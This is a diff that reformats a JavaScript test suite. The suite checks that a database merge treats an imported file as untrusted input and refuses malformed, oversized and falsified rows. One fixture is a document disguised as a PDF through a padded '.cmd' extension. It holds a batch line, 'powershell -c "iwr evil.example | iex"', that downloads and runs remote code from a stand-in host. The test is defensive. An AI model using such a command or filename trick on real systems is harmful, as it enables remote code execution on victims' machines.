@@ -47,7 +47,12 @@ describe('a merge source is untrusted input', () => {
       ids.nul = one('SELECT id FROM organisations ORDER BY id LIMIT 1')
       db.prepare("UPDATE organisations SET city = char(0) || 'Mons' WHERE id = ?").run(ids.nul)
       ids.huge = newId()
-      db.prepare("INSERT INTO organisations (id, name, kind, created_at, updated_at, updated_by) VALUES (?, ?, 'ngo', ?, ?, 'Pieter')").run(ids.huge, 'N'.repeat(1_000_000), STAMP, STAMP)
+      db.prepare("INSERT INTO organisations (id, name, kind, created_at, updated_at, updated_by) VALUES (?, ?, 'ngo', ?, ?, 'Pieter')").run(
+        ids.huge,
+        'N'.repeat(1_000_000),
+        STAMP,
+        STAMP,
+      )
       // A new milestone of theirs under the organisation refused for its size: it cannot come without it.
       ids.dependant = newId()
       db.prepare(
@@ -65,16 +70,50 @@ describe('a merge source is untrusted input', () => {
         db.prepare(`INSERT INTO ${table} (id, ${columns}) VALUES (?, ${values.map(() => '?').join(', ')})`).run(id, ...values)
         return id
       }
-      ids.audit = history('audit_log', 'at, officer_name, entity, record_id, action, after_json', [STAMP, 'Pieter', 'project', rv1.id, 'update', '{pas du json'])
-      ids.handoverJson = history('handovers', 'at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id', [STAMP, 'Pieter', 'Élise', 'Note', 'oops', 'a', 'b'])
-      ids.handover9999 = history('handovers', 'at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id', ['9999-12-31T00:00:00.000Z', 'Pieter', 'Élise', 'Lisez-moi en premier', '[]', 'a', 'b'])
-      ids.merge = history(
-        'sync_merges',
-        'at, officer_name, into_file_id, from_file_id, from_name, added, updated, deleted, conflicts, resolutions_json',
-        [STAMP, 'Pieter', 'a', 'b', 'x.amif', 0, 0, 0, 0, '[{'],
-      )
+      ids.audit = history('audit_log', 'at, officer_name, entity, record_id, action, after_json', [
+        STAMP,
+        'Pieter',
+        'project',
+        rv1.id,
+        'update',
+        '{pas du json',
+      ])
+      ids.handoverJson = history('handovers', 'at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id', [
+        STAMP,
+        'Pieter',
+        'Élise',
+        'Note',
+        'oops',
+        'a',
+        'b',
+      ])
+      ids.handover9999 = history('handovers', 'at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id', [
+        '9999-12-31T00:00:00.000Z',
+        'Pieter',
+        'Élise',
+        'Lisez-moi en premier',
+        '[]',
+        'a',
+        'b',
+      ])
+      ids.merge = history('sync_merges', 'at, officer_name, into_file_id, from_file_id, from_name, added, updated, deleted, conflicts, resolutions_json', [
+        STAMP,
+        'Pieter',
+        'a',
+        'b',
+        'x.amif',
+        0,
+        0,
+        0,
+        0,
+        '[{',
+      ])
 
-      ids.script = insertDocument(db, 'Convention AMIF.pdf                                   .cmd', Buffer.from('@echo off\r\npowershell -c "iwr evil.example | iex"\r\n'))
+      ids.script = insertDocument(
+        db,
+        'Convention AMIF.pdf                                   .cmd',
+        Buffer.from('@echo off\r\npowershell -c "iwr evil.example | iex"\r\n'),
+      )
       const big = Buffer.alloc(60 * 1024 * 1024, 0x20)
       big.write('%PDF-1.7\n')
       ids.big = insertDocument(db, 'rapport.pdf', big)
@@ -105,7 +144,14 @@ describe('a merge source is untrusted input', () => {
     // Labels stay short and printable, whatever the row holds.
     for (const r of preview.refused) expect(r.label.length).toBeLessThanOrEqual(120)
     expect(preview.refused.find((r) => r.id === ids.nul)!.label).not.toContain('\u0000')
-    expect(preview).toMatchObject({ added: [], updated: [], deleted: [], conflicts: [], appendOnly: { auditEntries: 0, handovers: 0, merges: 0 }, nothingToMerge: false })
+    expect(preview).toMatchObject({
+      added: [],
+      updated: [],
+      deleted: [],
+      conflicts: [],
+      appendOnly: { auditEntries: 0, handovers: 0, merges: 0 },
+      nothingToMerge: false,
+    })
 
     const result = await applyMerge(mine.writableFile(), theirsPath, OPTIONS)
     expect(result).toMatchObject({ added: 0, updated: 0, deleted: 0, mergeId: null, backupPath: null })
@@ -120,10 +166,16 @@ describe('a merge source is untrusted input', () => {
     await theirs.close()
     let oldHandover = ''
     writeAsAttacker(theirsPath, (db) => {
-      db.prepare("UPDATE budget_lines SET amount_cents = -150 WHERE id = (SELECT id FROM budget_lines WHERE amount_cents IS NOT NULL ORDER BY id LIMIT 1)").run()
+      db.prepare(
+        'UPDATE budget_lines SET amount_cents = -150 WHERE id = (SELECT id FROM budget_lines WHERE amount_cents IS NOT NULL ORDER BY id LIMIT 1)',
+      ).run()
       oldHandover = newId()
-      db.prepare("INSERT INTO handovers (id, at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id) VALUES (?, '2020-01-01T00:00:00.000Z', 'Pieter', 'Élise', 'Note ancienne', '[]', 'a', 'b')").run(oldHandover)
-      db.prepare("INSERT INTO handovers (id, at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id) VALUES (?, '9999-12-31T00:00:00.000Z', 'Pieter', 'Élise', 'Lisez-moi en premier', '[]', 'a', 'b')").run(newId())
+      db.prepare(
+        "INSERT INTO handovers (id, at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id) VALUES (?, '2020-01-01T00:00:00.000Z', 'Pieter', 'Élise', 'Note ancienne', '[]', 'a', 'b')",
+      ).run(oldHandover)
+      db.prepare(
+        "INSERT INTO handovers (id, at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id) VALUES (?, '9999-12-31T00:00:00.000Z', 'Pieter', 'Élise', 'Lisez-moi en premier', '[]', 'a', 'b')",
+      ).run(newId())
     })
     const result = await applyMerge(mine.writableFile(), theirsPath, OPTIONS)
     expect(result).toMatchObject({ added: 1, appendOnly: { handovers: 1 } })
